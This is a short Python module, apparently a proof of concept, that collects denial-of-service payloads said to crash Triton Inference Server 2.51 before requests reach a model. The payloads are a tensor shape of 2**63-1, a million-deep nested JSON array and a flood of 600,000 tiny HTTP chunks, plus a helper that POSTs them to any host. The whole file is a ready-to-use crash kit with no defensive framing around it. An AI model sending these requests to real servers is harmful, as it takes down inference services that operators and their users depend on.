"""Requests of which Triton 2.51 dies before any model sees them, and how to send them."""

from __future__ import annotations

import http.client
import json
from urllib.parse import urlsplit

_ROW = {"name": "image", "datatype": "UINT8", "shape": [1, 2**63 - 1], "data": [0]}
WIDE = json.dumps({"inputs": [_ROW]})
DEEP = "[" * 1_000_000 + "]" * 1_000_000

CHUNKED = {"Transfer-Encoding": "chunked"}
FLOOD = b"1\r\n \r\n" * 600_000 + b"0\r\n\r\n"


def post(
    url: str, path: str, body: str | bytes, *, timeout_s: float = 10.0, **headers: str
) -> tuple[int, bytes]:
    """Send one request on a connection of its own; return status and body."""
    parts = urlsplit(url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=timeout_s)
    try:
        connection.request("POST", path, body=body, headers=headers)
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()
